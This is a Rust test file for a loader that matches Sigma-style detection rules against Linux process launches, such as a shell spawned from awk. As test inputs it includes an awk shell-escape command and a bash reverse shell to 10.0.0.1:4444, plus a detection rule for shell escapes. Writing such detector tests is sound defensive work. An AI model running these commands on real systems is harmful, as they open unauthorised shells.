use super::*;

const AWK: &str = "title: A shell from awk\nid: 11111111-2222-4333-8444-555555555555\nlevel: high\n\
    logsource: {category: process_creation, product: linux}\ndetection:\n  image:\n    Image|endswith: ['/awk', '/gawk']\n  \
    line:\n    CommandLine|contains|all: ['system', '/sh']\n  ours:\n    ParentImage|endswith: '/make'\n  condition: image and line and not ours\n";

fn rules(texts: &[&str]) -> Rules {
    let sources: Vec<Source<'_>> = texts.iter().map(|text| Source { name: "t.yml", text }).collect();
    Rules::load(&sources)
}

fn hits(rules: &Rules, words: &[&str], parent: &str) -> Vec<String> {
    let argv: Vec<Vec<u8>> = words.iter().map(|w| w.as_bytes().to_vec()).collect();
    let image = format!("/usr/bin/{}", words[0]);
    let command = Command::new(image.as_bytes(), &argv, b"/home/alice", "alice").started_by(parent.as_bytes());
    rules.of(&command).into_iter().map(|hit| format!("{} {}", hit.level.as_str(), hit.title)).collect()
}

#[test]
fn a_rule_matches_what_it_describes() {
    let rules = rules(&[AWK]);
    assert_eq!((rules.count(), rules.set_aside().len()), (1, 0));
    let shell = ["awk", "BEGIN {system(\"/bin/sh\")}"];
    assert_eq!(hits(&rules, &shell, ""), ["high A shell from awk"]);
    assert_eq!(hits(&rules, &shell, "/usr/bin/make"), Vec::<String>::new());
    assert_eq!(hits(&rules, &["sed", "system /bin/sh"], ""), Vec::<String>::new());
    assert_eq!(hits(&rules, &["awk", "{print}"], ""), Vec::<String>::new());
}

#[test]
fn what_cannot_be_matched_is_set_aside_with_its_reason() {
    let other = AWK.replace("process_creation", "network_connection");
    let windows = AWK.replace("linux", "windows");
    let lacking = AWK.replace("ParentImage|endswith", "ParentCommandLine|contains");
    let long = format!("# {}\n{AWK}", "x".repeat(FILE_MAX));
    let rules = rules(&[&other, &windows, &lacking, &long, "title: x\n", "{", "- a\n- b\n", ""]);
    assert_eq!(rules.count(), 0);
    let why: Vec<&str> = rules.set_aside().iter().map(|a| a.why.as_str()).collect();
    for (at, text) in
        ["about network_connection", "for windows", "needs ParentCommandLine", "longer than"].iter().enumerate()
    {
        assert!(why[at].contains(text), "{why:?}");
    }
    assert!(why.len() >= 6, "{why:?}");
}

#[test]
fn odd_arguments_are_bounded_and_titles_cannot_forge_lines() {
    let rules = rules(&[&AWK.replace("A shell from awk", "\"A\\nshell\\e[31m\"")]);
    let argv = vec![b"awk".to_vec(), vec![0xff; 3], b"system /sh".to_vec(), vec![b'x'; 4 << 20]];
    let found = rules.of(&Command::new(b"/usr/bin/awk", &argv, b"/", "u"));
    assert_eq!(found.len(), 1);
    assert!(!found[0].title.contains(['\n', '\u{1b}']));
}

#[test]
fn the_gravest_come_first_and_each_once() {
    let low = AWK.replace("level: high", "level: low").replace("11111111", "21111111").replace("A shell", "Low");
    let rules = rules(&[&low, AWK, AWK]);
    let shell = ["awk", "BEGIN {system(\"/bin/sh\")}"];
    assert_eq!(hits(&rules, &shell, ""), ["high A shell from awk", "low Low from awk"]);
}

/// Rules as others write them, where they are present.
#[test]
fn a_corpus_of_rules_loads() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora/sigma_rules");
    let Ok(entries) = std::fs::read_dir(folder) else { return };
    let paths = entries.map(|e| e.unwrap().path()).filter(|p| p.extension().is_some_and(|e| e == "yml"));
    let texts: Vec<(String, String)> =
        paths.map(|p| (p.display().to_string(), std::fs::read_to_string(&p).unwrap())).collect();
    let sources: Vec<Source<'_>> = texts.iter().map(|(name, text)| Source { name, text }).collect();
    let rules = Rules::load(&sources);
    for aside in rules.set_aside() {
        println!("{}: {}", aside.title, aside.why);
        assert!(aside.why.starts_with("needs "), "{aside:?}");
    }
    assert_eq!(rules.count() + rules.set_aside().len(), sources.len());
    assert!(rules.count() * 10 > sources.len() * 8, "{} of {}", rules.count(), sources.len());
    assert!(!hits(&rules, &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "").is_empty());
    assert_eq!(hits(&rules, &["ls", "-l"], "/usr/bin/bash"), Vec::<String>::new());
}
